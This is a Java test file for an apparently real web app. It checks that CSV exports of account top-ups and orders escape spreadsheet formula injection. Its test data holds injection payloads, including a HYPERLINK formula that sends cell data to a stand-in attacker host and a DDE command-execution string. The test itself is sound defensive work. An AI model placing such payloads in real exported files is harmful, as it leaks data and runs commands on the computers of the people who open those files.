package dev.codeport.bootstrap.browser;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.microsoft.playwright.APIResponse;
import dev.codeport.bootstrap.Customer;
import java.util.ArrayList;
import java.util.List;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

/** In files for a spreadsheet, what others wrote is text: nothing of it is calculated. */
@ExtendWith(Stage.Shared.class)
class ExportTest {
  private static final List<String> FORMULAS =
      List.of(
          "=1+1",
          "+1+1",
          "-1+1",
          "@SUM(A1)",
          "\t=1+1",
          " =1+1",
          "=HYPERLINK(\"https://evil.example?\"&A1)",
          "=cmd|' /C calc'!A0",
          "|calc",
          "＝1+1",
          "\",=1+1",
          "a\n=1+1");

  /** A cell: in quotes, or without any. */
  private static final Pattern CELL = Pattern.compile("\"((?:[^\"]|\"\")*)\"|([^,\"\r\n]+)");

  private static final Pattern OURS = Pattern.compile("-?\\d+(\\.\\d+)?");

  private final Stage stage;

  ExportTest(Stage stage) {
    this.stage = stage;
  }

  @Test
  void why_money_came_in_the_ledger() {
    var customer = stage.customer("Ada");
    var texts = Stream.concat(FORMULAS.stream(), Payloads.all().stream()).toList();
    for (var text : texts) {
      topUp(customer, text);
    }

    var cells = cells(file(customer, "/console/money.csv"));

    for (var text : texts) {
      assertTrue(cells.contains(text) || cells.contains("'" + text), text);
    }
    assertNothingIsCalculated(cells);
  }

  @Test
  void codes_in_the_list_of_orders() {
    var customer = stage.customer("Ada");
    for (int i = 0; i < FORMULAS.size(); i++) {
      var order = Wish.WHATSAPP.order(customer, "order-" + i);
      stage.deliver(order.path("phone_number").asText(), FORMULAS.get(i) + " 48291" + i % 10);
      customer.get("/api/orders/" + order.path("id").asLong() + "?wait=5");
    }

    var cells = cells(file(customer, "/console/orders.csv"));

    assertTrue(cells.contains("482911"), cells::toString);
    assertNothingIsCalculated(cells);
  }

  private void topUp(Customer customer, String why) {
    var account = customer.get("/api/account").json().path("id").asInt();
    var body = Json.object("amount", "1", "reference", why);
    var done = stage.admin().post("/api/admin/accounts/" + account + "/top-ups", body);
    assertEquals(2, done.status() / 100, done.text());
  }

  private String file(Customer customer, String path) {
    try (var visitor = stage.visitor(Screen.DESKTOP)) {
      visitor.signIn(customer.key());
      APIResponse file = visitor.page().request().get(stage.url().resolve(path).toString());
      assertTrue(file.headers().getOrDefault("content-disposition", "").startsWith("attachment"));
      assertEquals("nosniff", file.headers().get("x-content-type-options"));
      return file.text();
    }
  }

  private static List<String> cells(String file) {
    var cells = new ArrayList<String>();
    var found = CELL.matcher(file);
    while (found.find()) {
      cells.add(found.group(1) == null ? found.group(2) : found.group(1).replace("\"\"", "\""));
    }
    return cells;
  }

  /** A number of ours may begin with a minus. */
  private static void assertNothingIsCalculated(List<String> cells) {
    assertEquals(
        List.of(),
        cells.stream()
            .filter(cell -> cell.stripLeading().matches("(?s)[=+\\-@|＝].*"))
            .filter(cell -> !OURS.matcher(cell).matches())
            .toList());
  }
}
